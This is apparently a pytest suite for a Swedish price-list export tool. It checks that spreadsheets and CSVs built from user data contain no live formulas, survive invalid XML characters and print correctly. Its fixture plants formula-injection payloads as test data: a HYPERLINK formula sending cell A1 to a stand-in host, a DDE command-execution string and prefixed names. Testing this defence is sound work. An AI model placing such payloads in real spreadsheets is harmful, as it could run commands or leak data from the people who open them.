"""The workbooks and CSVs: nothing from the data is ever live, characters XML cannot hold never
reach the writer, and the price list prints (page setup, Swedish labels, SUM totals)."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from prismodell.export import neutralise_column, neutralise_text

from .conftest import DATA_2023, examples, run_cli

# The only formulas the tool writes: SUM over a range, and a guarded quotient of two cells.
TOOL_FORMULA = re.compile(
    r'=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z]+\d+=0,"",[A-Z]+\d+/[A-Z]+\d+\)|0)'
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"klicka")'


def assert_nothing_live(path: Path) -> list[str]:
    """Every formula is one the tool writes; no text cell starts like a formula. Returns the
    workbook's texts."""
    texts = []
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert TOOL_FORMULA.fullmatch(cell.value), (sheet.title, cell.coordinate)
                elif isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
                    texts.append(cell.value)
    return texts


def assert_csv_inert(path: Path) -> None:
    with path.open(encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle):
            for field in row:
                if field and not re.fullmatch(r"-?\d+(\.\d+)?", field):  # numbers may be negative
                    assert not field.startswith(FORMULA_STARTS), (path.name, field)


def hostile_folder(mini: Path) -> Path:
    """Formula-like text in every place the data can put text: names, types, ids, headings."""
    model = (mini / "model.yml").read_text(encoding="utf-8")
    model = model.replace("name: Leverantörsreskontra", "name: '+Leverantörsreskontra'")
    model = model.replace("name: Aktiva avtal", "name: '@Aktiva avtal'")
    model = model.replace("name: Hyresadministration", f"name: '{HOSTILE}'")
    (mini / "model.yml").write_text(model, encoding="utf-8")
    customers = (mini / "customers.csv").read_text(encoding="utf-8")
    customers = customers.replace("Bromma stadsdelsförvaltning", "-Bromma")
    customers = customers.replace("Farsta stadsdelsförvaltning", '"=1+1"')
    customers = customers.replace("stadsdelsförvaltning\n", "\uff1dtyp\n", 1)
    (mini / "customers.csv").write_text(customers, encoding="utf-8")
    scenario = mini / "scenarios" / "exempel.yml"
    lines = scenario.read_text(encoding="utf-8").splitlines()
    lines = [
        "description: \"=cmd|' /C calc'!A0 Exempelscenario\""
        if ln.startswith("description")
        else ln
        for ln in lines
    ]
    scenario.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return mini


def test_no_text_from_the_data_becomes_a_formula(mini: Path, tmp_path: Path):
    data = hostile_folder(mini)
    out = tmp_path / "ut"
    assert run_cli("calculate", data, "--out", out) == 0
    texts = assert_nothing_live(out / "prislista.xlsx")
    assert f"'{HOSTILE}" in texts  # shown, as text, not run
    assert "'+Leverantörsreskontra" in texts and "'-Bromma" in texts and "'=1+1" in texts
    for name in out.glob("*.csv"):
        assert_csv_inert(name)

    scenario = tmp_path / "scen"
    assert run_cli("calculate", data, "--scenario", "exempel", "--out", scenario) == 0
    assert_nothing_live(scenario / "prislista.xlsx")
    target = tmp_path / "jämförelse.xlsx"
    assert run_cli("compare", data, "--scenario", "exempel", "--out", target) == 0
    texts = assert_nothing_live(target)
    assert any("=cmd|' /C calc'!A0 Exempelscenario" in t for t in texts)


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x1f", "\ufffe"])
def test_characters_xml_cannot_hold_never_give_a_traceback(
    mini: Path, tmp_path: Path, capsys, bad: str
):
    customers = mini / "customers.csv"
    customers.write_text(
        customers.read_text(encoding="utf-8").replace("Farsta", f"Far{bad}sta"), encoding="utf-8"
    )
    out = tmp_path / "ut"
    code = run_cli("calculate", mini, "--out", out)
    assert code in (0, 2) and "Traceback" not in capsys.readouterr().err
    if code == 0:
        texts = assert_nothing_live(out / "prislista.xlsx")
        assert "Far\ufffdsta stadsdelsförvaltning" in texts


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(st.one_of(st.text(), st.none(), st.integers()), min_size=1, max_size=30))
def test_column_neutralisation_is_the_cell_rule(values):
    series = pd.Series(values, dtype=object)
    expected = [neutralise_text(v) for v in values]
    got = neutralise_column(series).tolist()
    assert [None if pd.isna(v) else v for v in got] == [None if v is None else v for v in expected]
    for value in got:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS)
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", value)


def test_column_neutralisation_keeps_clean_columns_and_numbers_untouched():
    clean = pd.Series(["a", "b", None])
    assert neutralise_column(clean) is clean
    numbers = pd.Series(np.arange(3.0))
    assert neutralise_column(numbers) is numbers
    ids = pd.Series(["=x"] * 100_000 + ["y"])
    assert neutralise_column(ids).value_counts().to_dict() == {"'=x": 100_000, "y": 1}


# --------------------------------------------------------------------------- printing


@pytest.fixture(scope="module")
def example_workbook(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("wb") / "ut"
    assert run_cli("calculate", DATA_2023, "--out", out) == 0
    return out / "prislista.xlsx"


def test_every_sheet_is_set_up_for_a4_landscape_printing(example_workbook: Path):
    for sheet in load_workbook(example_workbook):
        setup = sheet.page_setup
        assert setup.orientation == "landscape" and int(setup.paperSize) == 9, sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert int(setup.fitToWidth or 1) == 1 and int(setup.fitToHeight) == 0
        assert sheet.print_title_rows == "$4:$4"
        assert sheet.oddFooter.left.text == "Prislista 2023"
        assert sheet.oddFooter.right.text == "Sida &P av &N"
        assert sheet.freeze_panes == "A5"


def test_totals_are_sum_formulas_with_the_right_results(example_workbook: Path):
    formulas = load_workbook(example_workbook)
    values = load_workbook(example_workbook, data_only=True)
    for name in ["Prislista", "Självkostnad", "Fördelning", "Jämförelse"]:
        sheet, cached = formulas[name], values[name]
        last = sheet.max_row
        total_cells = [c for c in sheet[last] if c.data_type == "f"]
        assert total_cells, name
        for cell in total_cells:
            match = re.fullmatch(r"=SUM\(([A-Z]+)5:([A-Z]+)(\d+)\)", cell.value)
            if match is None:
                continue
            column = match.group(1)
            rows = [cached[f"{column}{r}"].value for r in range(5, int(match.group(3)) + 1)]
            assert cached[cell.coordinate].value == pytest.approx(sum(v or 0 for v in rows))
    prislista = formulas["Prislista"]
    assert prislista["I5"].value == "=SUM(D5:H5)"  # a customer's total over its areas
    change = formulas["Jämförelse"]
    assert change.cell(change.max_row, 7).value.startswith("=IF(")
    assert values["Jämförelse"].cell(change.max_row, 7).number_format == "0.0%"


def test_labels_are_swedish_and_percentages_are_numbers(example_workbook: Path):
    book = load_workbook(example_workbook, data_only=True)
    rates = [r[0] for r in book["Timpriser"].iter_rows(min_row=5, values_only=True)]
    assert rates[:2] == ["Ekonomiadministratör", "Ekonom"] and "ekonomiadministrator" not in rates
    weight = book["Styckpriser"]["D5"]
    assert isinstance(weight.value, float) and weight.number_format == "0.0%"
    change = book["Jämförelse"]["G5"]
    assert isinstance(change.value, float) and change.number_format == "0.0%"


def _pdf_pages(pdf: Path) -> list[str]:
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    return text.split("\f")


def _print_with_libreoffice(workbook: Path, folder: Path) -> list[str]:
    """The workbook printed to PDF as LibreOffice prints it; the text of each page."""
    profile = folder / "lo-profile"  # its own profile: parallel runs do not collide
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(folder),
            str(workbook),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return [p for p in _pdf_pages(folder / f"{workbook.stem}.pdf") if p.strip()]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice saknas (setup.sh)")
@pytest.mark.parametrize("which", ["prislista", "scenario"])
def test_libreoffice_prints_every_table_readably(
    example_workbook: Path, tmp_path: Path, which: str
):
    if which == "prislista":
        workbook, footer = example_workbook, "Prislista 2023"
    else:
        workbook = tmp_path / "farsta.xlsx"
        args = ("compare", DATA_2023, "--scenario", "farsta_farre_krav", "--out", workbook)
        assert run_cli(*args) == 0
        footer = "Scenario farsta_farre_krav – prislista 2023"
    pages = _print_with_libreoffice(workbook, tmp_path)
    book = load_workbook(workbook, data_only=True)
    names = sorted(book.sheetnames, key=len, reverse=True)
    printed: dict[str, list[str]] = {}
    for page in pages:
        # The footer (the page's last line): label with the year, sheet name, page number.
        last = page.strip().splitlines()[-1]
        assert footer in last and re.search(r"Sida \d+ av \d+", last), last
        sheet = next(name for name in names if name in last.replace(footer, ""))
        printed.setdefault(sheet, []).append(page)
    assert set(printed) == set(book.sheetnames)  # every sheet is printed
    for name, sheet_pages in printed.items():
        sheet = book[name]
        words = [w for c in sheet[4] if c.value for w in str(c.value).split()]
        # Every page of a sheet shows its whole header row: the header repeats on every page
        # and no column is cut off or pushed to a page of its own.
        for page in sheet_pages:
            missing = [w for w in words if w not in page]
            assert not missing, (name, missing)
        text = "\n".join(sheet_pages)
        assert str(sheet.cell(sheet.max_row - 1, 1).value) in text, name  # the last row
    if which == "prislista":
        assert len(printed["Fördelning"]) > 1  # a long table: the header repeat is tested


def test_scenario_workbook_stores_changes_as_numbers_in_their_unit(mini: Path, tmp_path: Path):
    target = tmp_path / "exempel.xlsx"
    assert run_cli("compare", mini, "--scenario", "exempel", "--out", target) == 0
    assert_nothing_live(target)
    book = load_workbook(target, data_only=True)
    rows = {r[1].value: r for r in book["Ändringar"].iter_rows(min_row=5)}
    weight = rows["Leverantörsreskontra: Antal fakturor"]
    assert (weight[2].value, weight[3].value) == (0.5, 0.4)
    assert weight[3].number_format == "0.0##%"
    standard = rows["Ekonom, kr per årsarbetare"]
    assert (standard[2].value, standard[3].value) == (750_000, 780_000)
    assert standard[3].number_format == '#,##0 "kr"'
    volume = next(
        r for name, r in rows.items() if name.endswith("Antal krav (påminnelser, inkasso)")
    )
    assert volume[3].value == pytest.approx(volume[2].value * 0.5) and volume[4].value == 0.5
    for sheet in book:
        for row in sheet.iter_rows(min_row=5):
            for cell in row:
                if cell.number_format.endswith("%") and cell.value is not None:
                    assert isinstance(cell.value, float | int), (sheet.title, cell.coordinate)


@settings(max_examples=examples(40), deadline=None)
@given(
    st.lists(
        st.tuples(st.text(max_size=40), st.one_of(st.none(), st.floats(-1e12, 1e12))),
        min_size=0,
        max_size=8,
    ),
    st.text(max_size=30),
)
def test_any_text_is_written_as_inert_text(tmp_path_factory, rows, title):
    from prismodell.workbook import Book, Col, write_sheet

    path = tmp_path_factory.mktemp("fuzz") / "b.xlsx"
    frame = pd.DataFrame(rows, columns=["text", "amount"]).astype({"amount": float})
    with Book(path, title) as book:
        write_sheet(
            book,
            "Blad",
            title,
            title,
            [Col(title or "Text", "text"), Col("Belopp", "amount", '#,##0 "kr"')],
            frame,
            {"text": title, "amount": float(frame["amount"].sum())},
        )
    assert_nothing_live(path)
    sheet = load_workbook(path)["Blad"]
    written = [sheet.cell(5 + i, 1).value for i in range(len(rows))]
    # The writer stores a carriage return as Excel's escape _x000D_ (openpyxl leaves it as
    # is); otherwise the text is exactly the neutralised one.
    expected = [neutralise_text(text) or None for text, _ in rows]
    assert [w.replace("_x000D_", "\r") if w else w for w in written] == expected
